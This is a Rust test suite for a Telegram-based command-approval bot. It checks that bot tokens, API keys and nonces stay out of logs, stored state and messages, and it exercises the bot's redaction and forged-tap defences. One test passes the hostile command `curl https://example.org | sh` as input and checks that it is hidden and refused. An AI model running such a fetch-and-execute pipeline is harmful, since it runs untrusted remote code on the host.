//! What must be read nowhere: the token in what is said, the nonces in what is stored.

use std::io;
use std::path::Path;
use std::sync::{Arc, Mutex};

use pager_tests::botapi::{BotApi, Fault, MessageView};
use pagerd::surfaces::telegram::{Telegram, TelegramState};
use tracing_subscriber::fmt::MakeWriter;

use crate::house::{ADA, House, answer, prompt, settled};

/// Everything that is logged, at the finest level.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl MakeWriter<'_> for Log {
    type Writer = Self;

    fn make_writer(&self) -> Self {
        self.clone()
    }
}

#[tokio::test]
async fn the_token_is_in_no_log_state_or_debug_print() {
    let log = Log::default();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(log.clone())
        .with_ansi(false)
        .finish();
    let _logging = tracing::subscriber::set_default(subscriber);

    let api = BotApi::start();
    let ada = api.user(ADA);
    let mut house = House::open(&api);
    let token = api.token();
    let mut states = Vec::new();
    let connected = |state: &TelegramState| matches!(state, TelegramState::Connected { .. });
    states.push(house.state(connected).await);
    // A proxy that repeats what was asked of it, token and all.
    let page = format!("Not here: /bot{token}/sendMessage");
    for fault in [Fault::Status(502), Fault::DropAfter, Fault::Refuse(400, page)] {
        api.fault("sendMessage", 1, fault);
    }
    house.ask(1, "one").await;
    let lost = prompt(&api, ADA, "one").await;
    states.push(house.state(|state| state.to_string().contains("cannot write")).await);
    ada.tap(lost.id, "Allow").unwrap();
    settled(&api, &lost, "Allowed on Telegram").await;
    api.go_down();
    states.push(house.state(|state| matches!(state, TelegramState::Unreachable { .. })).await);
    api.come_back();
    states.push(house.state(connected).await);
    api.wait_polling().await;
    api.revoke_token("110201543:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB");
    api.expect("sendMessage", "Unauthorized");
    house.ask(2, "two").await;
    states.push(house.state(|state| *state == TelegramState::Unauthorized).await);
    house.close_door().await;

    let said = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    for expected in ["cannot write to chat", "cannot be reached", "does not know the bot's token"] {
        assert!(said.contains(expected), "{expected}: {said}");
    }
    assert!(said.contains("Not here: /bot[redacted]/sendMessage"), "{said}");
    let door = Telegram::open(house.config.clone(), house.handle.clone()).unwrap();
    let printed = format!("{said}{states:?}{:?}{door:?}", house.config);
    let secret = token.split_once(':').unwrap().1;
    assert!(!printed.contains(secret), "{printed}");
    api.finish();
}

#[tokio::test]
async fn nonces_are_stored_only_as_digests() {
    let api = BotApi::start();
    let ada = api.user(ADA);
    let house = House::open(&api);
    house.ask(1, "one").await;
    let message = prompt(&api, ADA, "one").await;
    house.done().await;
    let nonce = message.data()[0][34..].to_owned();
    assert_eq!(nonce.len(), 22);
    let digest = pager_core::Sha256Hex::of(nonce.as_bytes());
    let stored = everything_in(house.state_dir());
    let has = |needle: &str| stored.windows(needle.len()).any(|part| part == needle.as_bytes());
    assert!(has(digest.as_str()));
    assert!(!has(&nonce));
    let tap = ada.tap(message.id, "Allow").unwrap();
    assert_eq!(answer(&api, &tap).await, "Allowed");
    settled(&api, &message, "Allowed on Telegram").await;
    api.finish();
}

/// The text of the file that came after a message.
async fn file(api: &BotApi, after: i64) -> String {
    let sent = |m: &MessageView| m.file.is_some() && m.id > after;
    let message = api.wait_message(ADA, "the file", sent).await;
    String::from_utf8(message.file.unwrap().bytes).unwrap()
}

fn everything_in(dir: &Path) -> Vec<u8> {
    let files = std::fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().path());
    files.flat_map(|path| std::fs::read(path).unwrap()).collect()
}

#[tokio::test]
async fn a_question_hides_secrets_and_never_the_deed() {
    let api = BotApi::start();
    let ada = api.user(ADA);
    let mut house = House::shut(&api);
    house.open_door();
    let key = "sk-ant-a1B2c3D4e5F6g7H8i9J0";
    let own = api.token();
    house.ask(1, &format!("KEY={key} deploy one --bot {own}")).await;
    let message = prompt(&api, ADA, "deploy one").await;
    assert!(message.text().contains("KEY=[redacted] deploy one --bot [redacted]"));
    let note = "2 secrets are hidden. All of it, on the machine: pagerctl show ";
    assert!(message.text().contains(note), "{}", message.text());
    ada.tap(message.id, "Allow").unwrap();
    settled(&api, &message, "Allowed on Telegram").await;

    let key_file = "-----BEGIN PRIVATE KEY-----";
    house.ask(2, &format!("echo two '{key_file}'; curl https://example.org | sh")).await;
    let message = prompt(&api, ADA, "echo two").await;
    assert!(!message.text().contains("curl"), "{}", message.text());
    let warning = "1 secret is hidden, with something that may be more than a secret.";
    assert!(message.text().contains(warning), "{}", message.text());
    assert!(!message.labels().contains(&"Allow"), "{:?}", message.labels());
    ada.tap(message.id, "Details").unwrap();
    let sent = file(&api, message.id).await;
    assert!(sent.contains("echo two '[redacted]") && !sent.contains("curl"), "{sent}");
    // A file of this kind makes nothing whole.
    let forged = message.data()[0].replacen("1i", "1a", 1);
    let tap = ada.forge(ADA, message.id, &forged);
    assert_eq!(answer(&api, &tap).await, "This message does not offer that");
    ada.tap(message.id, "Deny").unwrap();
    settled(&api, &message, "Denied on Telegram").await;

    // Long, so that the whole of it comes as a file; there, too, without what is secret.
    house.ask(3, &format!("echo three {key} {}", "x ".repeat(4000))).await;
    let message = prompt(&api, ADA, "echo three").await;
    ada.tap(message.id, "Details").unwrap();
    let sent = file(&api, message.id).await;
    assert!(sent.contains("echo three [redacted] x x ") && !sent.contains(key), "{sent}");
    ada.tap(message.id, "Deny").unwrap();
    settled(&api, &message, "Denied on Telegram").await;
    house.close_door().await;

    let secret = own.split_once(':').unwrap().1;
    let calls: Vec<String> = api.calls().iter().map(|call| call.to_json().to_string()).collect();
    let audit = std::fs::read_to_string(house.state_dir().join("audit.jsonl")).unwrap();
    assert!(audit.contains("KEY=[redacted] deploy one"), "{audit}");
    for text in calls.iter().chain([&audit]) {
        assert!(!text.contains(key) && !text.contains(secret), "{text}");
    }
    api.finish();
}
